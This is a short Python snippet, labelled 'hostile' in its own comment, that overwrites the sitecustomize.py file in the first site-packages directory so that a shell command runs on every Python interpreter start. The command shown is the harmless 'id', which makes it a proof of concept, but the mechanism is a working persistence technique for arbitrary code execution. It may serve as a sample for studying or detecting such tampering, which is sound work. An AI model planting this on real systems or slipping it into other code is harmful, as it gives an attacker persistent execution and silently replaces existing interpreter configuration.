# hostile: a sitecustomize module that runs on every interpreter start
import site

target = site.getsitepackages()[0] + "/sitecustomize.py"
with open(target, "w") as f:
    f.write("import os\nos.system('id')\n")
